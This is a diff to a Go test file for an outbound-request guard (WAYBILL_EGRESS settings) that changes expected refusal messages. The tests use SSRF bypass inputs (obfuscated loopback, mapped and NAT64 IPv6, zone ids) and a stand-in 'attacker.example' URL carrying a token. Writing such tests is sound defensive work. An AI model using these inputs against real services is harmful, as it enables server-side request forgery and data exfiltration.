@@ -258,18 +258,18 @@ func TestRefusals(t *testing.T) {
 		raw    string
 		want   string
 	}{
-		{dev(t), "http://10.0.0.1/", "address not allowed"},
+		{dev(t), "http://10.0.0.1/", "address not allowed: it is not public, and not in WAYBILL_EGRESS_ALLOW"},
 		{dev(t), "http://[::ffff:127.0.0.1]/", "must have a plain IPv6 address in its brackets"},
 		{dev(t), "http://[::1%25lo]/", "must have a plain IPv6 address in its brackets"},
 		{dev(t), "http://[2606:4700:4700::1111%25eth0]/", "must have a plain IPv6 address in its brackets"},
 		{dev(t), "http://0x7f.1/", "must have an IPv4 address as four decimal numbers"},
 		{dev(t), "http://①②⑦.⓪.⓪.①/", "must have an IPv4 address as four decimal numbers"},
 		{dev(t), "http://xn--localhost-/", "must have a valid host name"},
-		{docker, "http://localhost/", "address not allowed"},
-		{docker, "http://a.localhost/", "address not allowed"},
-		{docker, "http://127.0.0.1/", "address not allowed"},
-		{nat, "https://[64:ff9b::7f00:1]/", "address not allowed"},
-		{&egress.Policy{}, "http://hooks.example.com/", "must be an https URL"},
+		{docker, "http://localhost/", "address not allowed: it is not public, and not in WAYBILL_EGRESS_ALLOW"},
+		{docker, "http://a.localhost/", "address not allowed: it is not public, and not in WAYBILL_EGRESS_ALLOW"},
+		{docker, "http://127.0.0.1/", "address not allowed: it is not public, and not in WAYBILL_EGRESS_ALLOW"},
+		{nat, "https://[64:ff9b::7f00:1]/", "address not allowed: it is not public, and not in WAYBILL_EGRESS_ALLOW"},
+		{&egress.Policy{}, "http://hooks.example.com/", "must be an https URL: http needs WAYBILL_EGRESS_HTTP"},
 		{&egress.Policy{HTTP: true}, "gopher://hooks.example.com/", "must be an http or https URL"},
 		{&egress.Policy{}, "", "must have 1 to 2048 bytes"},
 		{&egress.Policy{}, "hooks.example.com/x", "must be an absolute http or https URL"},
@@ -406,7 +406,7 @@ func TestDialIsGuardedThoughTheCheckIsNot(t *testing.T) {
 	defer client.Close()
 	for _, host := range []string{"a127", "v6mapped", "nat64", "cname", "azure"} {
 		r := client.Post(context.Background(), &egress.Request{URL: "http://" + host + ".attacker.example/?token=hunter2"})
-		if r.Code != egress.CodeAddress || r.Code.Text() != "address not allowed" {
+		if r.Code != egress.CodeAddress || r.Code.Text() != "address not allowed: it is not public, and not in WAYBILL_EGRESS_ALLOW" {
 			t.Errorf("%s: %s", host, r.Code)
 		}
 		if r.Err == nil || !errors.Is(r.Err, egress.ErrAddress) || strings.Contains(r.Err.Error(), "hunter2") {
